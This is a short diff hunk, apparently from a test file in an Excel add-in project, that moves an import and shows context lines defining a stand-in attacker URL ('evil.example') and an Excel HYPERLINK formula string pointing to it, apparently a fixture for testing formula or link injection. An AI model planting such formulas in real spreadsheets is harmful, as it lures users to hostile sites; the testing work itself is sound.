@@ -23,8 +23,8 @@ from openpyxl.workbook.external_link.external import (
     ExternalSheetNames,
 )
 
+from xl_addin.actions.submit import outputs_for
 from xl_addin.cli import cli
-from xl_addin.submit import outputs_for
 
 EVIL_URL = "http://evil.example/"
 LINK_NAME = f'=HYPERLINK("{EVIL_URL}","点击")&'
